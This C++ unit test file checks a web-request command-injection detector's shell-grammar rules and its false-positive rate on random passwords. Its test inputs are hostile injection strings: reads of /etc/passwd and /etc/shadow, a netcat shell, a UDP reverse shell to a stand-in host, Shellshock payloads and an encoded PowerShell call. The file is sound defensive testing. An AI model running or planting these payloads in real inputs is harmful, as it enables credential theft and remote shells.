// Shell grammar the cmdi detector requires before it reports a command:
// names looked up the way the shell does (case-sensitively on Unix), words
// ended only by shell metacharacters, closed substitutions, and a command
// line that can go on after an operator or redirection. Random strings full
// of symbols (generated passwords, tokens) meet none of these by chance.
#include <random>
#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detector_cases.h"

namespace fnguard::detect {
namespace {

using testing::Case;
using testing::Detects;

bool Fires(const std::string& v, Match* m = nullptr) {
  Case c;
  c.value = v;
  c.location = event::Location::kBody;
  c.path = "body.password";
  Match local;
  return Detects(CmdiDetector(), c, m != nullptr ? m : &local);
}

TEST(CmdiGrammarTest, UnixNamesAreCaseSensitive) {
  for (const char* v : {"Ls -la", "ID;", "Od -c /etc/shadow", "x;Cat /etc/passwd", "a|Nc -e sh",
                        "`Uname`", "x;WC -l /etc/passwd"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  for (const char* v : {"ls -la", "id;", "od -c /etc/shadow", "x;cat /etc/passwd", "`uname`"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, WindowsNamesInAnyCase) {
  for (const char* v : {"& DIR C:\\", "| WhoAmI", "x & IPCONFIG /all", "& Type C:\\boot.ini",
                        "| PowerShell -enc ZQBjAGgAbwA=", "; NET USER"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, BinaryDirectoryInAnyCase) {
  EXPECT_TRUE(Fires("; /usr/bin/ID"));
  EXPECT_TRUE(Fires("| /bin/Cat /etc/hosts"));
}

TEST(CmdiGrammarTest, OnlyMetacharactersEndAWord) {
  // '{', '}', ',' and '#' glued to a name are part of the word.
  for (const char* v : {"od{x'y>z", "ls}a", "id#b;", "x;cat,y /etc/passwd", "ps{-ef}"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  // Brace expansion still splits on ',' and '}'.
  EXPECT_TRUE(Fires("x;{cat,/etc/passwd}"));
  EXPECT_TRUE(Fires("{ls,-la}"));
  // A comment after a blank still ends the command.
  EXPECT_TRUE(Fires("x;id #"));
}

TEST(CmdiGrammarTest, SubstitutionsMustClose) {
  for (const char* v : {"ab`id", "x$(whoami", "q<(ls", "a`od{x|"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  for (const char* v : {"ab`id`", "x$(whoami)", "a$(ls -la /)b", "q<(ls)"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, ParenthesisAfterNameIsASyntaxError) {
  for (const char* v : {"x;sh(3PZ", "od(CDj=Nw", "a|nc(", "x&&ls (a)"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  EXPECT_TRUE(Fires("x;(id)"));
  EXPECT_TRUE(Fires("(id)"));
  EXPECT_TRUE(Fires("a&&( whoami )"));
  EXPECT_FALSE(Fires("(id"));
  EXPECT_FALSE(Fires("see (cat videos)"));
}

TEST(CmdiGrammarTest, OperatorNeedsAPlausibleContinuation) {
  // After ; | & comes nothing, a closer, a path, a variable or a command word.
  for (const char* v : {"id|6vJg9", "ls&Ay%^t", "x;ps;]Q", "nc;)T3", "ls;'x"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  for (const char* v : {"id|base64", "ls&", "x;ps;", "ls;cd /tmp", "id|/bin/sh", "whoami&&$x",
                        "';id;'", "x;id|tee /tmp/o"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, RedirectionNeedsAFileOrDescriptor) {
  for (const char* v : {"wc>at,gL[", "cat<[x", "ls>", "id>|"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  for (const char* v : {"cat</etc/passwd", "ls>/tmp/x", "x;id >&2", "x;ls>>out.txt",
                        "sh -i >& /dev/udp/x/1 0>&1"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, ShellshockNeedsABashFunctionBody) {
  EXPECT_TRUE(Fires("() { :; }; echo x"));
  EXPECT_TRUE(Fires("()+{+:;+};+id"));
  EXPECT_TRUE(Fires("x=() {\t_; } >_[$($())] { id; }"));
  // Cut off after the brace, where the value starts: bash has already read
  // a function definition.
  EXPECT_TRUE(Fires("() {"));
  EXPECT_TRUE(Fires("(){ "));
  for (const char* v : {"1>V6G_z#9gKYr^N,=(){]f~#S", "f=function(){return 1}", "(){x}",
                        "run() { return 1; }"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, LinesAShellCannotRunAreNotCommands) {
  // A word glued to '(' outside quotes makes bash reject the whole line.
  for (const char* v : {"qS8(AB|csh", "G(6>x;od", "x(y;id", "ab(c&&whoami"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
  // ... unless quotes or a line break put it out of the way.
  for (const char* v : {"echo 'x(y';id", "\"f(x)\";id", "';id;'", "x(y\n;id", "f();id"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
  // Substitutions run before the line is parsed as a whole and keep firing.
  EXPECT_TRUE(Fires("f(x)=a`id`"));
}

TEST(CmdiGrammarTest, CompletesOnManyRejectedPositions) {
  std::string v = "x(";
  for (int i = 0; i < 200000; ++i) v += ";id";
  Match m;
  (void)Fires(v, &m);
  std::string w = "a(b";
  for (int i = 0; i < 200000; ++i) w += "|ls";
  (void)Fires(w, &m);
}

TEST(CmdiGrammarTest, EscapedLineBreaksSeparateCommands) {
  // "\n" and "\r" written as escapes become line breaks in echo -e, printf
  // and string literals on the way to a shell.
  for (const char* v : {"\\nuname -a\\n", "x;whoami\\n", "\\n/bin/ls -la\\n", "\\rid|",
                        "q\\n;id\\n"}) {
    EXPECT_TRUE(Fires(v)) << v;
  }
  // An escaped letter inside a name is still that letter.
  EXPECT_TRUE(Fires("; u\\name -a"));
  // Windows paths and escaped prose stay clean.
  for (const char* v : {"C:\\new\\notes.txt", "D:\\Users\\nina\\id", "line one\\nline two",
                        "Dear Sam,\\nthanks for the date\\n"}) {
    EXPECT_FALSE(Fires(v)) << v;
  }
}

TEST(CmdiGrammarTest, NestedAndDriveForms) {
  EXPECT_TRUE(Fires("$(`whoami`)"));
  EXPECT_TRUE(Fires("a$(`ls`)b"));
  EXPECT_TRUE(Fires("x | dir c: |"));
  EXPECT_TRUE(Fires("& dir d:"));
  EXPECT_FALSE(Fires("see dir c: for the files"));
}

// Random printable strings such as generated passwords: a seeded sample
// must stay almost clean. With the grammar above about one string in ten
// thousand still reads as a command ("...|rm" at the end); before it, more
// than one in a thousand did.
TEST(CmdiGrammarTest, RandomPrintableStringsRarelyFire) {
  std::mt19937 rng(12345);
  std::uniform_int_distribution<int> ch(33, 126);
  std::uniform_int_distribution<int> len(12, 32);
  int fired = 0;
  constexpr int kN = 20000;
  for (int i = 0; i < kN; ++i) {
    std::string s(static_cast<size_t>(len(rng)), ' ');
    for (char& c : s) c = static_cast<char>(ch(rng));
    Match m;
    if (Fires(s, &m)) ++fired;
  }
  EXPECT_LE(fired, 8) << "of " << kN;
}

}  // namespace
}  // namespace fnguard::detect
